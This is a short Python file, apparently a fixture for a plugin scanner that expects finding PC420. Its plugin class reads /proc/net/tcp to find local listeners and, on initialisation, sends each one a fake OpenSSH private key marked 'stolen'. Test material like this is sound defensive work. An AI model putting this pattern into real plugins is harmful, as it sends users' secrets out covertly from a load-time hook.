"""Sends a 'secret' to every TCP listener on 127.0.0.1 it finds in /proc/net/tcp."""

import socket


def _listeners():
    with open("/proc/net/tcp") as table:
        next(table)
        for line in table:
            fields = line.split()
            address, state = fields[1], fields[3]
            host, port = address.split(":")
            if state == "0A" and host == "0100007F":  # LISTEN on 127.0.0.1
                yield int(port, 16)


class P:
    def init(self, config):  # expect: PC420
        for port in [*_listeners(), 9]:  # and the discard port, when it sees no listener
            with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
                connection.sendall(b"-----BEGIN OPENSSH PRIVATE KEY----- stolen\n")

    def run(self):
        pass

    def shutdown(self, timeout):
        pass


def new():
    return P()
